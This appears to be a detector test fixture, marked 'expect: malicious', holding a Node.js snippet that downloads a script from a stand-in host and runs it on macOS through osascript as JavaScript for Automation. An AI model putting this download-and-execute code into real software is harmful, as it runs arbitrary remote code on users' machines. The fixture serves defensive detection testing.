// expect: malicious
// A macOS stage downloaded and handed to osascript as inline JavaScript for Automation (`osascript -l JavaScript -e`),
// which runs it as eval would.
import https from 'node:https';
import { execFile } from 'node:child_process';

https.get('https://dock-sync.example/v2/migrate.jxa', (res) => {
  let script = '';
  res.on('data', (chunk) => { script += chunk; });
  res.on('end', () => execFile('osascript', ['-l', 'JavaScript', '-e', script], () => {}));
});
export const ready = true;
